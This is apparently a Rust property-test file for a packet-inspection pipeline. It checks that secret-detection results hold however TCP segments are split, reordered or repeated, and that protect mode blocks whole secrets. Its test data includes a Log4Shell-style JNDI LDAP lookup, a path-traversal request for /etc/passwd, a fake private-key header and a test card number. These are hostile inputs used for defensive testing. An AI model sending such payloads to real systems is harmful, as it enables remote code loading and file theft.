//! A verdict never depends on how the bytes were cut into packets: HTTP conversations that carry secrets, cut
//! anywhere, out of order within a window and with repetitions, give the hits of the whole buffers; and what
//! passes in protect mode never holds a whole secret.

use std::collections::BTreeMap;
use std::sync::{Arc, OnceLock};

use dataplane::app::{Depth, Lane};
use dataplane::decode::{Checksum, ChecksumMode, LinkType, TcpFlags, decode};
use dataplane::event::{Alert, AnomalyKind, Event, EventSink, Reading};
use dataplane::flow::FlowRecord;
use dataplane::pipeline::{Pipeline, RxMeta};
use dataplane::policy::{Mode, Overlap, Settings, TcpPolicy};
use dataplane::verdict::{DropReason, Verdict};
use dlp_patterns::{Direction, Field, RuleSet, ScanState, default_packs};
use engine::sample::frame::Tcp;
use engine::sample::{Connection, Ends};
use proptest::collection::vec;
use proptest::prelude::*;

const DATA: u8 = TcpFlags::PSH | TcpFlags::ACK;
const CARD: &str = "4111111111111111";
const KEY: &str = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHC";
const LOOKUP: &str = "${jndi:ldap://203.0.113.7/a}";
/// A request target as sent, and as the rules see it.
const TARGETS: [(&str, &str); 3] = [
    ("/index.html", "/index.html"),
    ("/a?q=%24%7Bjndi:ldap://203.0.113.7/a%7D+b", "/a?q=${jndi:ldap://203.0.113.7/a} b"),
    ("/files/../../../../etc/passwd", "/files/../../../../etc/passwd"),
];

fn rules() -> Arc<RuleSet> {
    static RULES: OnceLock<Arc<RuleSet>> = OnceLock::new();
    Arc::clone(
        RULES
            .get_or_init(|| Arc::new(RuleSet::compile(&default_packs()).expect("the default packs compile"))),
    )
}

/// One message: what is sent, and the fields that it consists of.
#[derive(Clone, Debug)]
struct Message {
    direction: Direction,
    bytes: Vec<u8>,
    fields: Vec<(Field, Vec<u8>)>,
}

impl Message {
    fn request(target: usize, agent: &str, body: &str) -> Message {
        let (raw, decoded) = TARGETS[target];
        let headers = format!("Host: a.example\r\nUser-Agent: {agent}\r\nContent-Length: {}\r\n", body.len());
        let bytes = format!("POST {raw} HTTP/1.1\r\n{headers}\r\n{body}").into_bytes();
        let fields = vec![
            (Field::HttpUri, decoded.into()),
            (Field::HttpHeaders, headers.into_bytes()),
            (Field::HttpRequestBody, body.into()),
        ];
        Message { direction: Direction::ToServer, bytes, fields }
    }

    /// With `chunk_bytes` as a chunked body, else with a Content-Length.
    fn response(body: &str, chunk_bytes: Option<usize>) -> Message {
        let framing = chunk_bytes
            .map_or(format!("Content-Length: {}", body.len()), |_| "Transfer-Encoding: chunked".to_owned());
        let headers = format!("Server: s\r\nContent-Type: text/plain\r\n{framing}\r\n");
        let mut bytes = format!("HTTP/1.1 200 OK\r\n{headers}\r\n").into_bytes();
        match chunk_bytes {
            None => bytes.extend(body.bytes()),
            Some(chunk_bytes) => {
                for chunk in body.as_bytes().chunks(chunk_bytes) {
                    bytes.extend(format!("{:x}\r\n", chunk.len()).bytes());
                    bytes.extend([chunk, b"\r\n"].concat());
                }
                bytes.extend(b"0\r\n\r\n");
            }
        }
        let fields = vec![(Field::HttpHeaders, headers.into_bytes()), (Field::HttpResponseBody, body.into())];
        Message { direction: Direction::ToClient, bytes, fields }
    }
}

/// Rule, field, way, and where in the field the match begins and ends.
type Found = (u32, Field, Direction, u64, u64);

/// The hits in whole fields, as nobody cut them.
fn oracle(messages: &[Message]) -> Vec<Found> {
    let rules = rules();
    let mut found = Vec::new();
    for message in messages {
        for (field, bytes) in &message.fields {
            let (mut state, mut hits) = (ScanState::default(), Vec::new());
            rules.begin(&mut state, *field, message.direction);
            rules.scan(&mut state, bytes, &mut hits).expect("few candidates are alive at once");
            rules.finish(&mut state, &mut hits);
            let way = message.direction;
            found.extend(hits.iter().map(|hit| (rules.rule(hit.rule).id(), *field, way, hit.start, hit.end)));
        }
    }
    found.sort();
    found
}

/// A field that the rules read, and its bytes.
type Read = (Field, Vec<u8>);

#[derive(Default)]
struct Told {
    alerts: Vec<Found>,
    conflicts: usize,
    /// By direction: the field that is open, and those that are complete.
    open: [Option<Read>; 2],
    complete: [Vec<Read>; 2],
}

impl EventSink for Told {
    fn emit(&mut self, event: Event<'_>) {
        match event {
            Event::Alert(Alert { rule, field, direction, hit, .. }) => {
                self.alerts.push((rule.id(), field, direction, hit.start, hit.end));
            }
            Event::Anomaly(anomaly) => self.conflicts += usize::from(anomaly.kind == AnomalyKind::Overlap),
            _ => {}
        }
    }

    fn reads(&mut self, _: &FlowRecord, lane: Lane, reading: Reading<'_>) {
        let Lane { direction, number: 0, depth: Depth::Wire } = lane else { return };
        let open = &mut self.open[direction as usize];
        match reading {
            Reading::Begin(field) => assert_eq!(open.replace((field, Vec::new())), None, "one after another"),
            Reading::Data(bytes) => open.as_mut().expect("a field is open").1.extend(bytes),
            Reading::End => self.complete[direction as usize].extend(open.take()),
        }
    }
}

/// How a conversation is brought onto the wire.
#[derive(Clone, Debug)]
struct Delivery {
    ends: Ends,
    sequences: [u32; 2],
    /// Lengths of the pieces, used round and round.
    piece_bytes: Vec<usize>,
    /// In which order the pieces of a window are sent: a number a piece, smallest first.
    order: Vec<u8>,
    /// Every so many segments one is sent twice; 0 is never.
    repeat: usize,
}

const WINDOW_PIECES: usize = 5;

impl Delivery {
    /// The segments of the conversation: sender, offset in its stream, payload, frame.
    fn segments(&self, messages: &[Message]) -> Vec<(Direction, usize, Vec<u8>, Vec<u8>)> {
        let mut sent = [0, 0];
        let mut segments = Vec::new();
        let mut lengths = self.piece_bytes.iter().cycle();
        for message in messages {
            let (own, peer) = (message.direction as usize, 1 - message.direction as usize);
            let mut pieces = Vec::new();
            let mut rest = &message.bytes[..];
            while !rest.is_empty() {
                let (piece, tail) =
                    rest.split_at(rest.len().min(*lengths.next().expect("a cycle never ends")));
                pieces.push((sent[own], piece));
                sent[own] += piece.len();
                rest = tail;
            }
            for (window, pieces) in pieces.chunks_mut(WINDOW_PIECES).enumerate() {
                let mut ranked: Vec<_> = pieces.iter().enumerate().collect();
                ranked.sort_by_key(|(index, _)| {
                    self.order[(window * WINDOW_PIECES + index) % self.order.len()]
                });
                for (_, (offset, piece)) in ranked {
                    let sequence =
                        |end: usize, offset: usize| self.sequences[end].wrapping_add(1 + offset as u32);
                    let (own, peer) = (sequence(own, *offset), sequence(peer, sent[peer]));
                    let frame = self.ends.frame(
                        message.direction,
                        Tcp { sequence: own, acknowledgment: peer, flags: DATA },
                        piece,
                    );
                    segments.push((message.direction, *offset, piece.to_vec(), frame));
                }
            }
        }
        if self.repeat > 0 {
            let repeated = segments.iter().enumerate();
            return repeated
                .flat_map(|(index, it)| vec![it.clone(); 1 + usize::from(index % self.repeat == 0)])
                .collect();
        }
        segments
    }

    fn handshake(&self) -> Vec<Vec<u8>> {
        Connection::new(self.ends.clone(), self.sequences).handshake()
    }
}

/// A pipeline, and the time that it was told.
struct Bench {
    pipeline: Pipeline,
    told: Told,
    now_ns: u64,
}

impl Bench {
    fn new(mode: Mode) -> Bench {
        Bench::of(Settings { mode, ..Settings::default() })
    }

    fn with(overlap: Overlap) -> Bench {
        let tcp = TcpPolicy { overlap, ..TcpPolicy::default() };
        Bench::of(Settings { tcp, ..Settings::default() })
    }

    fn of(settings: Settings) -> Bench {
        let settings = Settings { flows_max: 1024, ..settings };
        Bench { pipeline: Pipeline::new(settings, rules()), told: Told::default(), now_ns: 0 }
    }

    fn judge(&mut self, frame: &[u8]) -> Verdict {
        self.judge_in_place(&mut frame.to_vec())
    }

    fn judge_in_place(&mut self, frame: &mut [u8]) -> Verdict {
        self.now_ns += 1000;
        let (now_ns, wire_bytes) = (self.now_ns, frame.len() as u32);
        let meta = RxMeta { now_ns, link: 0, link_type: LinkType::Ethernet, side: None, wire_bytes };
        self.pipeline.process(frame, meta, &mut self.told)
    }
}

/// What a receiver has in order of the segments that it got.
fn in_order(mut got: Vec<(usize, Vec<u8>)>) -> Vec<u8> {
    got.sort();
    let mut stream = Vec::new();
    for (offset, piece) in got {
        if offset > stream.len() {
            break;
        }
        let known = stream.len() - offset;
        stream.extend(piece.iter().skip(known));
    }
    stream
}

fn contains(bytes: &[u8], needle: &str) -> bool {
    bytes.windows(needle.len()).any(|window| window == needle.as_bytes())
}

fn deliveries() -> impl Strategy<Value = Delivery> {
    let ends = prop_oneof![
        Just(("10.0.0.1:40000", "192.0.2.1:80", vec![])),
        Just(("10.0.0.1:40000", "192.0.2.1:80", vec![7])),
        Just(("10.0.0.1:40000", "192.0.2.1:80", vec![7, 4094])),
        Just(("[fd00::1]:40000", "[2001:db8::1]:80", vec![])),
        Just(("[fd00::1]:40000", "[2001:db8::1]:80", vec![9])),
    ];
    let piece_bytes = vec(prop_oneof![1..4usize, 1..40usize, 1..1400usize], 1..12);
    let sequences = [any::<u32>(), any::<u32>()];
    (ends, sequences, piece_bytes, vec(any::<u8>(), 1..24), 0..4usize).prop_map(
        |((client, server, vlans), sequences, piece_bytes, order, repeat)| {
            let address = |text: &str| text.parse().expect("it is an address");
            let ends = Ends::new(address(client), address(server), &vlans);
            Delivery { ends, sequences, piece_bytes, order, repeat }
        },
    )
}

/// Filler that no rule speaks of, around one of `secrets`, or around none.
fn texts(secrets: &'static [&'static str]) -> impl Strategy<Value = String> {
    let filler =
        || vec(prop_oneof![Just("river "), Just("table\n"), Just("4111 "), Just("-----BEG ")], 0..40);
    (filler(), prop::option::of(prop::sample::select(secrets)), filler()).prop_map(
        |(before, secret, after)| [&before.concat(), secret.unwrap_or(" "), " ", &after.concat()].concat(),
    )
}

fn exchanges() -> impl Strategy<Value = Vec<Message>> {
    let agents = prop::sample::select(vec!["curl/8.8.0", LOOKUP, "Mozilla/5.0 (${date:x})"]);
    let request = (0..TARGETS.len(), agents, texts(&[KEY, LOOKUP]))
        .prop_map(|(target, agent, body)| Message::request(target, agent, &body));
    let response = (texts(&[CARD, KEY]), prop::option::of(1..50usize))
        .prop_map(|(body, chunk_bytes)| Message::response(&body, chunk_bytes));
    vec((request, response), 1..4).prop_map(|pairs| pairs.into_iter().flat_map(|(a, b)| [a, b]).collect())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 192, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn hits_are_those_of_the_whole_buffers(messages in exchanges(), delivery in deliveries()) {
        let mut bench = Bench::new(Mode::Monitor);
        for frame in delivery.handshake() {
            prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
        }
        for (_, _, _, frame) in delivery.segments(&messages) {
            prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
        }
        bench.pipeline.finish(bench.now_ns, &mut bench.told);
        bench.told.alerts.sort();
        prop_assert_eq!(bench.told.alerts, oracle(&messages));
        for direction in Direction::BOTH {
            let sent = messages.iter().filter(|message| message.direction == direction);
            let fields: Vec<Read> = sent.flat_map(|message| message.fields.clone()).collect();
            prop_assert_eq!(&bench.told.complete[direction as usize], &fields, "what a sink is shown");
        }
    }

    #[test]
    fn what_passes_never_holds_a_whole_secret(
        before in "[a-z ]{0,200}",
        after in "[a-z ]{0,3000}",
        in_request in any::<bool>(),
        delivery in deliveries(),
    ) {
        let secret = if in_request { LOOKUP } else { CARD };
        let body = format!("{before} {secret} {after}");
        let messages = match in_request {
            true => vec![Message::request(0, "curl", &body)],
            false => vec![Message::request(0, "curl", "plain"), Message::response(&body, None)],
        };
        let guilty = messages.last().expect("there is a message").direction;
        let mut bench = Bench::new(Mode::Protect);
        for frame in delivery.handshake() {
            prop_assert_eq!(bench.judge(&frame), Verdict::Forward);
        }
        let mut passed = Vec::new();
        let mut resets = 0;
        for (from, offset, piece, frame) in delivery.segments(&messages) {
            match bench.judge(&frame) {
                Verdict::Forward if from == guilty => passed.push((offset, piece)),
                Verdict::Forward => {}
                Verdict::Reset(_) => resets += 1,
                Verdict::Hold | Verdict::Drop(_) => {}
            }
        }
        let stream = in_order(passed);
        prop_assert_eq!(resets, 1, "the frame that completes the secret is answered, once");
        prop_assert!(!contains(&stream, secret), "passed: {}", String::from_utf8_lossy(&stream));
        let counters = bench.pipeline.counters();
        prop_assert!(counters.is_balanced());
    }
}

/// An end of a connection that reads its stream at each acknowledgment, and until then keeps one copy of each byte.
struct Reader {
    keeps_last: bool,
    kept: BTreeMap<usize, u8>,
    read: Vec<u8>,
}

impl Reader {
    fn both() -> [Reader; 2] {
        [false, true].map(|keeps_last| Reader { keeps_last, kept: BTreeMap::new(), read: Vec::new() })
    }

    /// RFC 9293 §3.10.7.4: what was acknowledged is trimmed. Which copy of the rest it keeps is left to each.
    fn takes(&mut self, offset: usize, payload: &[u8]) {
        for (place, byte) in (offset..).zip(payload).filter(|(place, _)| *place >= self.read.len()) {
            let kept = self.kept.entry(place).or_insert(*byte);
            *kept = if self.keeps_last { *byte } else { *kept };
        }
    }

    /// Reads what is contiguous, and returns how many bytes it has read.
    fn acknowledges(&mut self) -> u32 {
        while let Some(byte) = self.kept.remove(&self.read.len()) {
            self.read.push(byte);
        }
        self.read.len() as u32
    }
}

/// What the client of a stream of letters sends, or its server.
#[derive(Clone, Debug)]
enum Sent {
    /// A piece of it, of which some letters are others, and whether it is lost behind the engine.
    Piece {
        start: usize,
        letters: usize,
        others: Vec<usize>,
        is_lost: bool,
    },
    Acknowledgment,
}

const LETTERS: usize = 300;

fn sent() -> impl Strategy<Value = Sent> {
    let others = prop_oneof![Just(Vec::new()), vec(0..60usize, 1..4)];
    let piece = (0..LETTERS, 1..60usize, others, prop::bool::weighted(0.2));
    prop_oneof![
        5 => piece.prop_map(|(start, letters, others, is_lost)| {
            Sent::Piece { start, letters: letters.min(LETTERS - start), others, is_lost }
        }),
        1 => Just(Sent::Acknowledgment),
    ]
}

/// The client's letters, as it means them.
fn letters() -> Vec<u8> {
    (0..LETTERS).map(|place| b'a' + (place % 26) as u8).collect()
}

/// Sends all of it, then the whole stream in order. Returns what either reader has read, and what was inspected.
fn converse(bench: &mut Bench, first: u32, events: &[Sent]) -> ([Vec<u8>; 2], Vec<u8>) {
    let address = |text: &str| text.parse().expect("it is an address");
    let ends = Ends::new(address("10.0.0.1:40000"), address("192.0.2.1:9000"), &[]);
    for frame in Connection::new(ends.clone(), [first.wrapping_sub(1), 499]).handshake() {
        assert_eq!(bench.judge(&frame), Verdict::Forward);
    }
    let rest = (0..LETTERS).step_by(50).flat_map(|start| {
        [Sent::Piece { start, letters: 50, others: vec![], is_lost: false }, Sent::Acknowledgment]
    });
    let mut readers = Reader::both();
    for event in events.iter().cloned().chain(rest) {
        let Sent::Piece { start, letters: count, others, is_lost } = event else {
            let [sequence, acknowledgment] = [500, first.wrapping_add(readers[0].acknowledges())];
            assert_eq!(first.wrapping_add(readers[1].acknowledges()), acknowledgment);
            let tcp = Tcp { sequence, acknowledgment, flags: TcpFlags::ACK };
            assert_eq!(bench.judge(&ends.frame(Direction::ToClient, tcp, b"")), Verdict::Forward);
            continue;
        };
        let mut payload = letters()[start..start + count].to_vec();
        others.iter().for_each(|other| payload[other % count].make_ascii_uppercase());
        let tcp = Tcp { sequence: first.wrapping_add(start as u32), acknowledgment: 500, flags: DATA };
        let mut frame = ends.frame(Direction::ToServer, tcp, &payload);
        if bench.judge_in_place(&mut frame) == Verdict::Forward && !is_lost {
            let wire_bytes = frame.len() as u32;
            let packet = decode(&frame, wire_bytes, LinkType::Ethernet, ChecksumMode::Verify);
            let packet = packet.expect("it is still well-formed");
            assert_eq!(packet.checksum, Checksum::Valid);
            readers.iter_mut().for_each(|reader| reader.takes(start, packet.payload));
        }
    }
    bench.pipeline.finish(bench.now_ns, &mut bench.told);
    let inspected = bench.told.complete[Direction::ToServer as usize].iter();
    (readers.map(|reader| reader.read), inspected.flat_map(|(_, bytes)| bytes.clone()).collect())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 256, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn overlapped_with_conflicting_bytes_every_receiver_reads_what_was_inspected(
        events in vec(sent(), 1..60),
        before_wrap in 0..400u32,
        drops in any::<bool>(),
    ) {
        let overlap = if drops { Overlap::Drop } else { Overlap::Rewrite };
        let mut bench = Bench::with(overlap);
        let (read, inspected) = converse(&mut bench, 0u32.wrapping_sub(before_wrap), &events);
        for read in &read {
            prop_assert_eq!(&inspected[..read.len()], &read[..]);
        }
        // Dropped, the client's true letters may never replace those that were inspected and lost.
        prop_assert!(drops || read[0].len() == LETTERS, "{} read", read[0].len());
        prop_assert!(bench.pipeline.counters().is_balanced());
    }
}

#[test]
fn a_conflict_is_rewritten_counted_and_told() {
    let piece =
        |others: &[usize], is_lost| Sent::Piece { start: 0, letters: 26, others: others.to_vec(), is_lost };
    for (overlap, rewritten, dropped) in [(Overlap::Rewrite, 2, 0), (Overlap::Drop, 0, 2)] {
        let mut bench = Bench::with(overlap);
        let (read, inspected) =
            converse(&mut bench, 7, &[piece(&[], true), piece(&[3], false), piece(&[4], false)]);
        assert_eq!((&read[0], &read[1]), (&letters(), &letters()));
        assert_eq!(inspected, letters());
        let counters = bench.pipeline.counters();
        assert_eq!((counters.overlap_conflicts, counters.overlaps_rewritten), (2, rewritten));
        assert_eq!(counters.dropped[DropReason::OverlapConflict as usize], dropped);
        assert_eq!(bench.told.conflicts, 1, "once a flow");
    }
}

#[test]
fn the_oracle_finds_every_secret_that_is_planted() {
    let body = |secret: &str| format!("river {secret} table");
    let count = |message: Message| oracle(&[message]).len();
    assert_eq!(count(Message::request(0, "curl", "river")), 0);
    assert_eq!(count(Message::response("river 4111 table", Some(3))), 0);
    assert!(count(Message::request(1, "curl", "river")) >= 1);
    assert!(count(Message::request(2, "curl", "river")) >= 1);
    assert!(count(Message::request(0, LOOKUP, "river")) >= 1);
    assert!(count(Message::request(0, "curl", &body(KEY))) >= 1);
    assert!(count(Message::response(&body(CARD), None)) >= 1);
    assert!(count(Message::response(&body(KEY), Some(5))) >= 1);
}

#[test]
fn a_receiver_has_what_came_without_a_gap() {
    let piece = |offset: usize, text: &str| (offset, text.as_bytes().to_vec());
    assert_eq!(in_order(vec![piece(3, "def"), piece(0, "abc"), piece(2, "cd"), piece(7, "h")]), b"abcdef");
}
